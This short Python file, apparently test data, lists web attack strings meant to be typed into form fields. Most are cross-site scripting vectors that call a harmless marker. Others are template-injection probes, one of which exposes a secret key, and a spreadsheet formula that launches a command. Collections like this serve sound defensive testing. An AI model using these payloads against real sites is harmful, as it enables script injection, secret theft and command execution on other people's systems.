"""Words that attack, one of each kind: what a person may type into any field of any form."""

# Each would call boom(), act as a template, or be a formula where somebody believed it. The first
# forty signs have to do the harm: names are short.
PAYLOADS = [
    "<script>boom()</script>",
    "<img src=x onerror=boom()>",
    "<svg onload=boom()>",
    "<svg><script>boom()</script></svg>",
    "<math><mtext><img src=x onerror=boom()>",
    "<iframe srcdoc='<script>boom()</script>'>",
    "<a href=javascript:boom()>go</a>",
    "<a href='java\tscript:boom()'>go</a>",
    "javascript:boom()",
    "<object data=javascript:boom()>",
    "<details open ontoggle=boom()>x",
    "<input autofocus onfocus=boom()>",
    "<form action=javascript:boom()><button>",
    "<base href='javascript:boom()//'>",
    "<style>@import 'javascript:boom()'</style>",
    "<noscript><p title='</noscript><img src=x onerror=boom()>'>",
    '"><img src=x onerror=boom()>',
    "' onmouseover='boom()",
    '" autofocus onfocus="boom()',
    "</title></textarea></script><svg onload=boom()>",
    "--><img src=x onerror=boom()><!--",
    "]]><script>boom()</script>",
    "{{ 13371337*3 }}{% boom %}",
    "{% debug %}{{ settings.SECRET_KEY }} boom",
    "=boom()+cmd|' /C calc'!A0",
    "\uff1cimg src=x onerror=boom()\uff1e",
]
